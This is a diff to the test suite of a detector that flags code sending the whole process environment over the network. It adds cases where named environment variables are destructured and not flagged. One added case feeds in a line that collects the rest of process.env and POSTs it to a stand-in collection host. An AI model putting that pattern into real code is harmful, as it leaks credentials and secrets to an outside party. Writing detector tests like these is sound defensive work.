@@ -308,6 +308,13 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/config.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', "requests.post(URL, json={'a': a})"])).toEqual([]);
     expect(sent('src/app.py', ['request = Request(scope, receive)', 'settings = dict(os.environ)'])).toEqual([]);
     expect(sent('src/report.js', ["const req = https.request({ hostname: 'ci.example', method: 'POST' });", 'a();', 'b();', 'c();', 'd();', 'e();', 'log(JSON.stringify(process.env));'])).toEqual([]);
+    // A destructure takes the variables it names: the commonest way a Node.js module reads its configuration.
+    expect(sent('src/events.ts', ["const { API_URL, SERVICE_NAME, PORT = '8080' } = process.env;", "await fetch(`${API_URL}/v1/events`, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
+    expect(sent('src/events.js', ['({ API_URL } = process.env);', "await fetch(API_URL, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
+  });
+
+  it('reports a destructure whose rest element takes the whole environment', () => {
+    expect(sent('src/events.ts', ['const { NODE_ENV, ...rest } = process.env;', "await fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(rest) });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
   });
 });
 
